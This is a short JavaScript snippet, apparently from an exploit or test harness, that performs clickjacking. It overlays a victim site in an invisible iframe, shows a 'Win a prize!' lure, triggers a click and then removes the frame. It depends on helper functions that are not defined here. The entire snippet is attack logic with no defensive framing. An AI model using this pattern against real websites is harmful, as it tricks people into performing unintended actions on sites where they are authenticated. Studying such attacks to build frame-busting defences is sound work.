// The victim's page lies unseen over a button that a person presses.
const attack = async (victim) => {
  const frame = Object.assign(document.createElement('iframe'), { src: at(victim, '/') });
  frame.style.opacity = 0;
  document.body.prepend('Win a prize!');
  await within(2_000, loaded(frame));
  await home('click', '');
  await pause(300);
  frame.remove();
};
